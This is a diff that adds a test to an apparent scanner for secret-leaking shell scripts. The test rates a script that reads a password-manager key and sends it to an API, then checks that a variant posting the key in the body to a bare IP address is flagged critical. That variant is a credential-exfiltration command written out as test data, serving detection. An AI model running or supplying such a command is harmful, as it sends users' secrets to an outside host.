@@ -96,3 +96,13 @@ test('an item of a password manager that is exchanged where the service issues t
   expect(level('https://oauth2.acme-id.com/token')).toBe('medium');
   expect(level('https://in.farrowmere.io/v1')).toBe('critical');
 });
+
+test('one item of a password manager that signs a request in is for a reader to judge; in the body it is sent', () => {
+  const login =
+    'KEY=$(op read "op://Team/farrowmere/key")\ncurl -X POST -H "Authorization: Bearer $KEY" "https://api.farrowmere.io/v1"';
+  expect(worst(running('a.sh', login), 'EX-01')).toBe('medium');
+  const sent = login
+    .replace('-H "Authorization: Bearer $KEY"', '-d "k=$KEY"')
+    .replace('https://api.farrowmere.io/v1', 'http://245.61.12.9/in');
+  expect(worst(running('a.sh', sent), 'EX-01')).toBe('critical');
+});
